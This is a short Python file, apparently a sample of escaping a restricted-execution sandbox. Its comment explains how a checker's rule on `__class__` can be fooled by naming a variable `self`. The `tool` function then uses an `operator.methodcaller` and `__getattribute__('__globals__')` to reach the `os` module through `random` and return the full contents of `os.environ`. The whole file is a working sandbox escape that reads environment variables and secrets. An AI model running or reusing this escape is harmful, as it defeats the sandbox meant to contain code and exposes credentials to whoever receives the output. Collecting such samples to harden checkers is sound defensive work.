# family: computed
# Escape: the `__class__` rule accepts any receiver whose name is `self`, even a local variable in a plain
# function. Bound to a methodcaller, self.__class__ is the methodcaller class, which calls methods named at run
# time: __getattribute__("__globals__") on random.Random.__init__ -> random's globals -> os.environ.
import operator
import random


def tool(word: str = "globals", verb: str = "getattribute") -> str:
    self = operator.methodcaller("copy")
    call = self.__class__
    scope = call("__" + verb + "__", "__" + word + "__")(random.Random().__init__)
    return str(scope["_os"].environ)
